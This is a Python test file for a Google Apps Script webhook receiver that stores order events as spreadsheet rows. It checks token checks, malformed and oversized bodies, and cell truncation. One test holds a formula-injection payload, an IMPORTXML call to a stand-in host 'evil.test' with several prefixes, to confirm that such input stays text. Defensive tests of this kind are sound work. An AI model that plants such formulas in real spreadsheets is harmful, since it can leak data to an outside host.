"""The Apps Script receiver is run by Node, with the globals of Google's runtime in small."""

import json
import subprocess
from pathlib import Path
from typing import Any

from sandbox.domain.wire import SignatureFormat
from sandbox.takeaway.snippets import snippet
from tests.takeaway.running import require_runtime

TOKEN = "a-long-random-text"
EVENT = '{"Id":"1","Event":"Order.Create","Attempt":0,"Data":{"Price":900.0}}'


def post(body: str | None, token: str | None = TOKEN) -> dict[str, Any]:
    """What Google gives to doPost: the query's parameters, the body as text, and no headers."""
    call: dict[str, Any] = {"parameter": {} if token is None else {"token": token}}
    return call if body is None else {**call, "postData": {"contents": body, "type": "application/json"}}


def run(folder: Path, *calls: dict[str, Any], token: str | None = TOKEN) -> dict[str, Any]:
    require_runtime("node")
    script = folder / "Code.gs"
    script.write_text(snippet("apps-script", SignatureFormat()), encoding="utf-8")
    done = subprocess.run(
        ["node", str(Path(__file__).with_name("apps_script_host.mjs")), str(script)],
        input=json.dumps({"calls": calls, "token": token}),
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert done.returncode == 0, done.stderr
    result: dict[str, Any] = json.loads(done.stdout)
    assert result["locked"] == 0
    return result


def test_a_delivery_with_the_token_becomes_a_row(tmp_path: Path) -> None:
    result = run(tmp_path, post(EVENT), post('{"WebhookEvent":"Sun.Rise","Id":"2"}'), post(EVENT))
    assert result["answers"] == ["stored", "stored", "known already"]
    first, second = ([*row[1:]] for row in result["rows"])
    assert first == ["Order.Create", "1", "0", '{"Price":900}']
    assert second == ["Sun.Rise", "2", "", ""]


def test_the_rest_is_refused_and_leaves_no_row(tmp_path: Path) -> None:
    wrong = [post(EVENT, None), post(EVENT, "wrong"), post(EVENT, ""), post(EVENT, TOKEN + "x")]
    malformed = [post(text) for text in ("{", "", "[]", "null", "7")] + [post(None)]
    result = run(tmp_path, *wrong, *malformed, post(json.dumps({"Id": "x" * (2 * 1024 * 1024)})))
    assert result["answers"] == [
        *["refused: the token does not fit"] * len(wrong),
        *["refused: the body is not a JSON object"] * len(malformed),
        "refused: the body is too long",
    ]
    assert result["rows"] == []


def test_without_a_token_of_its_own_it_takes_nothing(tmp_path: Path) -> None:
    result = run(tmp_path, post(EVENT, None), post(EVENT, ""), post(EVENT, "null"), token=None)
    assert set(result["answers"]) == {"refused: set the script property O2VEND_TOKEN"}
    assert result["rows"] == []


def test_what_looks_like_a_formula_stays_text(tmp_path: Path) -> None:
    evil = '=IMPORTXML("http://evil.test","//a")'
    calls = [
        post(json.dumps({"Event": each + evil, "Id": each + evil, "Data": {}})) for each in ("", "+", "-", "@", "\t")
    ]
    result = run(tmp_path, *calls, calls[0])
    assert result["answers"] == ["stored"] * len(calls) + ["known already"]
    assert result["formulas"] == 0


def test_data_longer_than_a_cell_is_cut(tmp_path: Path) -> None:
    result = run(tmp_path, post(json.dumps({"Id": "1", "Data": {"T": "x" * 60_000}})))
    assert result["answers"] == ["stored"]
    assert len(result["rows"][0][4]) < 50_000
